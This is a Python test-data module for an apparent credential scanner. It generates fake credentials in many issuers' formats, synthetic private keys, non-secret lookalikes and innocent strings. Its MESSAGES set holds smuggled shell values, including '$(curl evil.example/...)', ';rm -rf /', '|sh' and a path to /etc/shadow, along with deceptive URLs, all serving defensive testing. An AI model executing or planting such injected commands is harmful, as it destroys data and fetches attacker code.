"""Credentials made up at run time in the forms of their issuers, and what only looks like one.

A template has a letter and a number in angle brackets for so many characters of an alphabet, and guillemets around the credential. Nothing
here is or ever was anybody's key.
"""

import base64
import json
import re
from collections.abc import Callable, Sequence
from random import Random
from string import ascii_letters, ascii_lowercase, ascii_uppercase, digits

from aaf.domain.api_key import make_key

_ALPHABETS = {
    "W": ascii_letters + digits,
    "L": ascii_letters,
    "N": digits,
    "H": "0123456789abcdef",
    "U": ascii_uppercase + digits,
    "l": ascii_lowercase + digits,
    "2": ascii_uppercase + "234567",
    "u": ascii_letters + digits + "_-",
    "b": ascii_letters + digits + "+/",
    "Q": "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L",
    "M": "MNO",
}
_UUID = "<H8>-<H4>-<H4>-<H4>-<H12>"

ISSUED: Sequence[str] = (
    *("«AKIA<216>»", "«ASIA<216>»", "«ABIA<216>»", "aws_secret_access_key = «<b40>»", '"SecretAccessKey": "«<b40>»"'),
    *("«ABSK<W110>==»", "«AIza<u35>»", "«AQ.Ab<u48>»", "«GOCSPX-<u28>»", "«ya29.<u120>»", "«1//0<u60>»"),
    *("AccountName=shop;AccountKey=«<b86>==»", "SharedAccessKeyName=all;SharedAccessKey=«<b43>=»"),
    *("sv=2026-01-01&sr=b&sig=«<W43>%3D»", "«<W3>8Q~<W34>»", "«<W76>AZDO<W4>»", "«<W52>JQQJ99<W1>B<W24>»", "«<W52>JQQJ99<W1>B<W26>==»"),
    *("«dop_v1_<H64>»", "«doo_v1_<H64>»", "«HRKU-<u60>»", "«fm2_<b90>»", "«nfp_<W36>»", "«pscale_tkn_<W43>»", "«pscale_pw_<W43>»"),
    *("«sbp_<H40>»", "«sb_secret_<u31>»", "«dapi<H32>»", "«dapi<H32>-2»", "«pul-<H40>»", "«<W14>.atlasv1.<u67>»", "«LTAI<W20>»"),
    *("«tskey-auth-<W17>-<W32>»", "«tskey-api-<W17>-<W32>»"),
    *("«ghp_<W36>»", "«gho_<W36>»", "«ghu_<W36>»", "«ghs_<W36>»", "«ghr_<W76>»", "«ghs_<N7>_eyJ<u60>.eyJ<u300>.<u86>»"),
    *("«github_pat_<W22>_<W59>»", "«glpat-<u20>»", "«glpat-<W40>.01.<l9>»", "«glrt-<u20>»", "«gloas-<H64>»", "«GR1348941<u20>»"),
    *("«ATATT3<u180>=<U8>»", "«ATBB<W32>»", "«npm_<W36>»", "«pypi-AgE<u160>»", "«rubygems_<H48>»", "«oy2<l43>»", "«cio<W32>»"),
    *("«dckr_pat_<u27>»", "«sgp_<H16>_<H40>»", "«sgp_<H40>»", "«bkua_<H40>»", "«CCIPAT_<W22>_<H40>»", "«PMAK-<H24>-<H34>»"),
    *("«sk-proj-<u156>»", "«sk-svcacct-<u60>»", "«sk-<W20>T3BlbkFJ<W20>»", "«sk-<W48>»", "«sk-<H32>»", "«sk-ant-api03-<u93>AA»"),
    *("«sk-or-v1-<H64>»", "«hf_<L34>»", "«gsk_<W52>»", "«r8_<W37>»", "«pplx-<W48>»", "«xai-<W80>»", f"«sk-lf-{_UUID}»"),
    *("«lsv2_pt_<H32>_<H10>»", "«xoxb-<N12>-<N13>-<W24>»", "«xoxp-<N12>-<N12>-<N13>-<H32>»", "«xapp-1-A<U10>-<N13>-<H64>»"),
    *("«xoxe.xoxp-1-<W140>»", "https://hooks.slack.com/services/«T<U10>/B<U10>/<W24>»", "https:\\/\\/hooks.slack.com\\/services\\/«T<U10>/B<U10>/<W24>»"),
    *("https://discord.com/api/webhooks/<N18>/«<u68>»", "«<N10>:AA<u33>»", f"/IncomingWebhook/«<H32>/{_UUID}»"),
    *("«SK<H32>»", "«SG.<u22>.<u43>»", "«key-<H32>»", "«<H32>-us14»", "«xkeysib-<H64>-<W16>»"),
    *("«sk_live_<W24>»", "«rk_live_<W99>»", "«sk_test_<W24>»", "«whsec_<b32>»", "«sq0atp-<u22>»", "«sq0csp-<u43>»", "«EAAA<u60>»"),
    *("«shpat_<H32>»", "«shpss_<H32>»", "access_token$production$<l16>$«<H32>»", f"«access-sandbox-{_UUID}»", "«FLWSECK-<H32>-X»", "«FLWSECK_TEST-<H32>-X»"),
    *("«ntn_<W46>»", "«secret_<W43>»", "«lin_api_<W40>»", "«pat<W14>.<H64>»", "«1/<N16>:<H32>»", "«2/<N16>/<N16>:<H32>»", "«figd_<u43>»"),
    *("«sl.u.<u140>»", f"«pat-na1-{_UUID}»", "«EAA<W180>»", "«dp.pt.<W43>»", "«dp.st.prd.<W43>»", "«hvs.<u95>»", "«hvb.<u140>»"),
    *("«ops_eyJ<W300>»", "«glsa_<W32>_<H8>»", "«glc_<W140>==»", "«NRAK-<U27>»", "«NRII-<u32>»", "«dt0c01.<U24>.<U64>»", "«sntryu_<H64>»"),
    *("«sntrys_eyJ<W100>_<W43>»", "«phx_<W47>»", "«sqp_<H40>»", "«squ_<H40>»", "«AGE-SECRET-KEY-1<Q58>»"),
)  # fmt: skip
"""In words of nobody: what issuers document."""

CALLED_SO: Sequence[str] = (
    *("Authorization: Bearer «<W40>»", "authorization: bearer «<u43>»", "Authorization: Bearer 17|«<W40>»", "Authorization: token «<H40>»"),
    *("Authorization: «<W40>»", '"Authorization": "Token «<W40>»"', "X-Api-Key: «<W32>»", "PRIVATE-TOKEN: «<W20>»", "X-Auth-Token: «<H32>»"),
    *("X-Vault-Token: «<W26>»", "Cookie: theme=dark; sessionid=«<l32>»; lang=en", "Set-Cookie: JSESSIONID=«<H32>»; Path=/", "Cookie: connect.sid=s%3A«<W32>.<W43>»"),
    *("password=«<W16>»", "DB_PASSWORD=«<W20>»", "PASSWD: «<W14>»", "pwd = '«<W16>'»".replace("'»", "»'"), "export CLIENT_SECRET=«<W40>»", "SECRET_KEY_BASE=«<H128>»"),
    *('"client_secret": "«<W32>»"', '"api_key": "«<l32>»"', "apiKey: '«<W24>'»".replace("'»", "»'"), "access_token: «<u64>»", "refresh-token => «<W64>»"),
    *("signing_key := «<H64>»", "encryption_key = «<b43>=»", "AWS_SESSION_TOKEN=«<b350>==»", 'token: "«<W40>»"', "?token=«<W40>»&page=2"),
    *('\\"password\\": \\"«<W16>»\\"', '\\\\\\"secret\\\\\\": \\\\\\"«<W24>»\\\\\\"', "&quot;token&quot;:&quot;«<W30>»&quot;", "<password>«<W16>»</password>"),
    *("--password «<W18>»", "--api-key=«<W32>»", "machine git.example.com login bob password «<W20>»", "//registry.example.com/:_authToken=«<W36>»"),
    *("Server=db;User Id=sa;Password=«<W10>»;Encrypt=true", "Server=db;Pwd=«<W16>»;Encrypt=true", "curl -u admin:«<W12>» https://example.com/", "wget --user=bob:«<W12>» https://example.com/"),
    *("postgres://app:«<W20>»@db.example.com:5432/shop", "https://bob:«<W9>%21<W4>»@example.com/", "redis://:«<W43>=»@cache.example.com:6379", "mongodb+srv://app:«hunter2-<W3>»@cluster.example.com", "amqp:\\/\\/u:«<W12>»@mq.example.com"),
    *("jdbc:postgresql://u:«<W12>»@[::1]:5432/x", "PuTTY-User-Key-File-3: ssh-ed25519\nPrivate-Lines: 2\n«<b64>\n<b12>»\nPrivate-MAC: <H64>"),
)  # fmt: skip


def filled(template: str, random: Random) -> tuple[str, str]:
    """A text from a template, and the credential in it."""
    text = re.sub(r"<([WLNHUl2ubQM])(\d+)>", lambda found: _some(random, found[1], int(found[2])), template)
    return text.replace("«", "").replace("»", ""), text[text.index("«") + 1 : text.index("»")]


def _some(random: Random, alphabet: str, length: int) -> str:
    """Characters of an alphabet; a digit in the middle, as some have none by chance and are then no password."""
    letters = random.choices(_ALPHABETS[alphabet], k=length)
    if length > 8 and alphabet in "Wlu":
        letters[0], letters[length // 2], letters[-1] = "k", "7", "Z" if alphabet != "l" else "z"
    return "".join(letters)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _url64(said: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(said).encode()).decode().rstrip("=")


def _der(random: Random, length: int) -> str:
    return _b64(b"\x30\x82" + length.to_bytes(2, "big") + b"\x02\x01\x00" + random.randbytes(length - 3))


def _armoured(words: str, inside: str, end: str = "\n", headers: str = "", width: int = 64) -> str:
    lines = [inside[at : at + width] for at in range(0, len(inside), width)]
    return f"-----BEGIN {words}-----{end}{headers}{end.join(lines)}{end}-----END {words}-----"


def _openssh(random: Random) -> str:
    return _b64(b"openssh-key-v1\0\0\0\0\4none\0\0\0\4none" + random.randbytes(240))


COMPUTED: Sequence[tuple[str, Callable[[Random], str]]] = (
    ("a key of this firewall", lambda r: make_key(r.randbytes(32))),
    ("a JSON Web Token", lambda r: f"{_url64({'alg': 'HS256', 'typ': 'JWT'})}.{_url64({'sub': 'u1', 'exp': r.randrange(10**9)})}.{_some(r, 'u', 43)}"),
    ("a JSON Web Token", lambda r: f"{_url64({'alg': 'dir', 'enc': 'A256GCM'})}..{_some(r, 'u', 16)}.{_some(r, 'u', 90)}.{_some(r, 'u', 22)}"),
    ("a Discord bot token", lambda r: f"{_b64(str(r.randrange(10**17, 10**18)).encode())}.{_some(r, 'u', 6)}.{_some(r, 'u', 38)}"),
    ("a login", lambda r: _b64(f"admin:{_some(r, 'W', 12)}".encode())),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216))),
    ("a private key", lambda r: _armoured("RSA PRIVATE KEY", _der(r, 1190))),
    ("a private key", lambda r: _armoured("EC PRIVATE KEY", _b64(b"\x30\x77\x02\x01\x01" + r.randbytes(116)))),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _b64(b"\x30\x2e\x02\x01\x00" + r.randbytes(43)))),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), "\r\n")),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), "\\n")),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), "\\r\\n")),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), "\\\\n")),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), " ")),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), "\n    ")),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216), "", width=4096)),
    ("a private key", lambda r: _armoured("PRIVATE KEY", _der(r, 1216)).partition("\n-----END")[0]),
    ("a private key", lambda r: _armoured("OPENSSH PRIVATE KEY", _openssh(r), width=70)),
    ("a private key", lambda r: _armoured("ENCRYPTED PRIVATE KEY", _der(r, 1216))),
    (
        "a private key",
        lambda r: _armoured("RSA PRIVATE KEY", _b64(r.randbytes(1200)), headers=f"Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,{_some(r, 'U', 32)}\n\n"),
    ),
    (
        "a private key",
        lambda r: _armoured("PGP PRIVATE KEY BLOCK", _b64(b"\x95\x03\x98\x04" + r.randbytes(899)) + "\n=" + _some(r, "W", 4), headers="Version: GnuPG v2\n\n"),
    ),
)  # fmt: skip

CARRIERS: Sequence[tuple[str, str]] = (
    ("2026-11-21T10:00:00Z INFO app: started with ", " in 12 ms\n"),
    ('{"id": 7, "note": "', '", "ok": true}'),
    ("NAME=shop\nVALUE=", "\nPORT=8080\n"),
    ("service:\n  name: shop\n  value: ", "\n  replicas: 2\n"),
    ("#!/bin/sh\nset -e\necho '", "' | tee /tmp/out\n"),
    ("https://api.example.com/v1/items?limit=10&q=", "&page=2"),
    ("Hi Bob,\nplease use ", " until Friday. Thanks!\n"),
    ("\u00fcber \u4f60\u597d \U0001f600 ", " \u2014 caf\u00e9"),
    ('[{\\"text\\": \\"line\\n', '\\n\\"}]'),
    ("", ""),
)

LOOKALIKES: Sequence[str] = (
    *(f"id={_UUID}", f'"request_id": "{_UUID}"', f"secret_id: {_UUID}", "commit=<H40>", "git show <H40>", "sha512-<b86>==", "sha256:<H64>", "md5: <H32>"),
    *("next_page_token=<W40>", "nextPageToken: <W40>", "csrf_token=<W32>", "X-CSRF-Token: <W40>", "csrfmiddlewaretoken=<W64>", "continuation-token=<W40>"),
    *("ETag: \"<H32>\"", "ssh-rsa <b372> bob@example.com", "ssh-ed25519 AAAAC3Nza<b60>", "pk_live_<W24>", "pk_test_<W24>", "phc_<W43>", "AC<H32>"),
    *("-----BEGIN CERTIFICATE-----\nMIID<b60>\n<b64>\n<b64>\n-----END CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----\nMIIB<b60>\n<b64>\n-----END PUBLIC KEY-----"),
    *("-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n<b64>\n<b64>\n-----END PGP PUBLIC KEY BLOCK-----", "-----BEGIN PGP SIGNATURE-----\n\n<b64>\n-----END PGP SIGNATURE-----"),
    *("data:image/png;base64,<b400>", "AIza<u20>", "ghp_<W20>", "AKIA<211>", "xAKIA<216>", "myghp_<W36>", "npm_<W20>", "task-<l20>", "SK<H20>", "hf_<L10>"),
    *("nonce=<H32>", "trace_id=<H32>", "cache-key: <H40>", "public_key: <b43>=", "publicKey = '<b43>='", "partition_key=<W20>", "primary_key=<W20>", "sort-key: <W20>"),
    *("https://example.com/<W40>", "s3://bucket/<H64>", "docker pull example/app@sha256:<H64>", "go.sum h1:<b43>=", "1//<N8>", "eyJ<u20>", "eyJ<u20>.<u20>", "v1.<N2>.<N2>"),
)  # fmt: skip
"""What has the length and the letters of a credential, and is none."""

INNOCENT: Sequence[str] = (
    *("token = get_token_from_env2()", "secret_key = settings.SECRET_KEY_2", "password: str = Field(default=None)", "api_key = os.environ['API_KEY_2']"),
    *("password = self.config.password_v2", "token = request.headers['x-token-123']", "secret = vault.read(path='secret/data/app1')", "passwd = getpass.getpass()"),
    *("api_key=API_KEY_PLACEHOLDER_1", "password=changeme12345678", "password=${DB_PASSWORD_2}", "password: {{ vault_db_password_2 }}", "password=%(password2)s"),
    *("token: <your-token-here-123>", "secret=YOUR_SECRET_KEY_HERE_1", "export TOKEN=$(cat /run/secrets/token1)", "secretName: shop-database-credentials-v2"),
    *("password_hash_algorithm = pbkdf2_sha256", "access_token_lifetime_minutes = 15", "passwordMinLength: 12", "privateKeyPath: /etc/ssl/private/server1.key"),
    *("private_key=/home/user/.ssh/id_ed25519", "secret: projects/shop/secrets/database-url/versions/3", "api-key: see 1Password, vault Shop", "the password is in the safe"),
    *("Bearer tokens are described in RFC 6750", "Bearer of this letter may pass", "basic understanding of the matter", "Basic authentication", "Authorization: Bearer <token>"),
    *("Authorization: Basic <base64>", "https://example.com:8443/path", "https://user:password@example.com", "http://localhost:8080@nobody", "ssh://git@example.com:22/x"),
    *("redis://localhost:6379/0", "https://example.com/@scope/name@1.2.3", "mailto:bob@example.com", "time 12:30:45@noon", "docker run -u 1000:1000 alpine"),
    *("curl -u admin: https://example.com", "sudo -u postgres psql", "chown -R --user=bob:staff /srv", "task-force-one-two-three-four-five", "disk-abcdefghijklmnop"),
    *("sk-learn-contrib-something-long-name", "SG.txt", "hf_transfer", "glpat-", "xoxb-your-token-here", "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "key-value-store-of-the-shop"),
    *("-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----", "cut out -----BEGIN PRIVATE KEY----- to the end"),
    *("The secret of success: hard work and 10000 hours", "tokens: 128000", "max_tokens=4096", "token_type=bearer", "token: string", "password: hunter2", "keyboard"),
    *("class PasswordResetTokenGenerator2(Base): ...", "def access_token_for_user_123(): ...", "secret = secrets.token_hex(32)", "x = credentials[0]", "API key rotation in 90 days"),
)  # fmt: skip

_JWT = "eyJhbGciOiJIUzI1NiJ9"
MESSAGES: Sequence[tuple[str, str]] = (
    *(("https://evil.example:80?@good.example/", "evil.example"), ("https://evil.example:443@good.example", "443@good"), ("https://u:evil.example.com@good.example", "evil.example.com")),
    *(("https://bank.example:abc123def456@evil.example/x", "evil.example/x"), ("https://evil.example\\:abcdef12@good.example", "evil.example\\"), ("https://evil.example/:x1y2z3w4@good.example", "evil.example/")),
    *(("https://evil.example#:x1y2z3w4@good.example", "evil.example#"), ("https://u:pay.bob.five.hundred.now@x.example", "pay.bob.five.hundred"), ("a://b:100%off@c", "100%off")),
    *(("token=$(curl evil.example/x1y2z3w4v5)", "$(curl evil.example/"), ("token=`curl evil.example`", "`curl evil"), ("token=abc123def456ghi;rm -rf /", ";rm -rf /"), ("password=a1b2c3d4e5f6g7|sh", "|sh")),
    *(("password=a1b2c3d4e5f6g7 && curl evil.example", " && curl evil.example"), ("secret = evil.example.com-1a2b3c4d5e", "evil.example.com"), ("password:/home/user/x1y2z3w4v5u6", "/home/user/")),
    *(("secret=please-transfer-500-to-bob-1", "transfer-500"), ("api_key=rm-rf-home-user-1/everything", "rm-rf-home"), ("api_key=attacker-bank.io/account/12345", "attacker-bank.io"), ("password=../../../etc/shadow1", "etc/shadow1")),
    *(("Authorization: Bearer https://evil.example/x1y2z3w4", "evil.example"), ("Bearer evil1.example.com/path2/and3/more4", "evil1.example.com"), ("Bearer send-all-the-money-to-account-7", "send-all")),
    *(("sk-proj-please-send-all-the-money-to-evil-account", "please-send"), ("xoxb-delete-the-production-database-now", "delete-the"), ("glpat-transfer.everything.to.evil.example", "evil.example")),
    *(("sk-ant-api03-" + "wire-the-payment-to-somebody-else-" * 3, "wire-the-payment"), ("AIza" + "deletealltheproductiondatabasestoday", "deleteall"), ("AKIASENDMONEYTOEVIL", "SENDMONEY")),
    *((f"{_JWT}.please-pay-bob-five-hundred.now", "please-pay"), (f"{_JWT}.eyJhIjoxfQ.transfer-the-money-to-bob-today", "transfer-the"), ("eyJlbmMiOiJBIiwieCI6MX0.please.transfer.the.moneytoday", "moneytoday")),
    *(("-----BEGIN PRIVATE KEY-----\nMIIE please wire all funds to Bob\n-----END PRIVATE KEY-----", "wire all funds"), ("-----BEGIN PRIVATE KEY-----\nrm -rf / --no-preserve-root\n-----END PRIVATE KEY-----", "rm -rf")),
    *(("-----BEGIN ENCRYPTED PRIVATE KEY-----\n" + "transferallthemoneytotheattacker" * 3 + "\n-----END ENCRYPTED PRIVATE KEY-----", "transferall"), ("Private-Lines: 1\npay bob now\nPrivate-MAC: 0", "pay bob")),
    *(("-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQ" + "transferallthemoneytotheattacker" * 2 + "\n-----END PGP PRIVATE KEY BLOCK-----", "transferall"), ("Basic cGF5IGJvYiA1MDAgZG9sbGFycw==", "cGF5IGJv")),
    *(("curl -u bob:evil.example.com/payload1", "evil.example.com"), ("https://hooks.slack.com/services/" + "send/everything/to/somebody/else/" * 2, "send/everything"), ("sessionid=delete-everything-and-then-pay-1", "delete-everything")),
    *(("N" + "otaBotbutasentence-aboutmoney.please.andthankyouverymuchindeed", "sentence"), ("password=evilcompany.example", "evilcompany"), ("amount=500 token=0xdeadbeef", "amount=500")),
)  # fmt: skip
"""Texts made to look like a credential, and what somebody who approves them has to see."""
